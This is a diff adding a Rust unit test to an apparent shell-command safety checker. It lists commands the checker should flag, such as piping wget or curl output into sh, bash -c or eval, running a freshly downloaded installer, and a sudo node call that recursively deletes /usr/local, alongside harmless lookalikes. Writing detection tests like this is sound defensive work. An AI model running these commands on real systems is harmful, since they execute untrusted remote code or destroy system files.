@@ -366,3 +366,27 @@ fn ansible_removes_system_directories() {
         Rule::UnsafeCommand
     ));
 }
+
+/// A download run through busybox, kept in a variable and run, or
+/// unpacked and run from the working directory; Node deleting a system
+/// directory below the top level.
+#[test]
+fn downloads_run_by_other_routes() {
+    for hit in [
+        "busybox wget -qO- http://10.20.4.8:8080/provision.sh | busybox sh",
+        "c=$(curl -fsSL https://cfg.larkspur.io/init.sh); bash -c \"$c\"",
+        "script=$(wget -qO- https://x.example/i.sh) && eval \"$script\"",
+        "wget https://dl.zephyrion.io/linux/latest -O- | tar -xz && ./zephyrion/install",
+        "sudo node -e \"require('fs').rmSync('/usr/local', {recursive: true, force: true})\"",
+    ] {
+        assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+    }
+    for clean in [
+        "v=$(curl -fsSL https://x.example/version.txt); echo \"$v\"",
+        "curl -fsSL https://x.example/data.tgz | tar -xz && cat ./data/README",
+        "wget -qO- https://x.example/latest | tar -xz && sha256sum -c SHA256SUMS && ./tool/install",
+        "node -e \"require('fs').rmSync('./dist', {recursive: true, force: true})\"",
+    ] {
+        assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+    }
+}
